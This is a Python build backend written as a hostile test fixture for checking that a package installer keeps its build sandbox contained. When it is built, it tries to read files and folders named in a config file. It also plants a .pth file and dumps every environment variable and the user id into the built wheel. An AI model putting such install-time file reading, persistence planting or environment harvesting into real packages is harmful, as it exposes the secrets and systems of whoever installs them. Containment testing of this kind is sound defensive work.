"""An in-tree PEP 517 build backend that attacks the machine building it (tests/hostile/
test_containment_builds.py): the sdist of `evil` ships it, so installing `evil` runs it.

targets.json holds "own", the virtualenv being built (its own, which it may write), and "targets",
mapping a name to ["read", PATH] (a file to read, or a folder to find files in, but its own) or
["write", FOLDER] (where to plant a .pth). Every attempt becomes one line, ESCAPED or REFUSED, of
evil/attacks.txt in the wheel it builds (installers show nothing of a build that succeeds), and so
does the list of variables the backend sees.
"""

import base64
import hashlib
import json
import os
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def _attack(action, path, own):
    if action == "write":
        with open(os.path.join(path, "planted.pth"), "w") as handle:
            handle.write("import os\n")
        return f"wrote into {path}"
    if os.path.isdir(path):
        found = [
            os.path.join(parent, name)
            for parent, _, names in os.walk(path)
            if not (parent + os.sep).startswith(own + os.sep)
            for name in names
        ]
        if not found:
            raise FileNotFoundError(2, "no file visible under it")
        return f"found {sorted(found)[:10]}"
    with open(path, "rb") as handle:
        return f"read {len(handle.read())} bytes: {handle.name}"


def _attacks():
    with open(os.path.join(HERE, "targets.json")) as handle:
        given = json.load(handle)
    lines = []
    for name, (action, path) in given["targets"].items():
        try:
            lines.append(f"ESCAPED {name}: {_attack(action, path, given['own'])}")
        except OSError as error:
            lines.append(f"REFUSED {name}: {type(error).__name__}: {error.strerror}")
    lines.append(f"UID {os.getuid()}")
    lines.append("VARIABLES " + " ".join(f"{k}={v}" for k, v in sorted(os.environ.items())))
    return "\n".join(lines) + "\n"


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {
        "evil/__init__.py": b"",
        "evil/attacks.txt": _attacks().encode(),
        "evil-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "evil-1.0.dist-info/WHEEL": (
            b"Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
    }
    name = "evil-1.0-py3-none-any.whl"
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, data in files.items():
            wheel.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record.append(f"{path},sha256={digest},{len(data)}")
        record.append("evil-1.0.dist-info/RECORD,,")
        wheel.writestr("evil-1.0.dist-info/RECORD", "\n".join(record) + "\n")
    return name
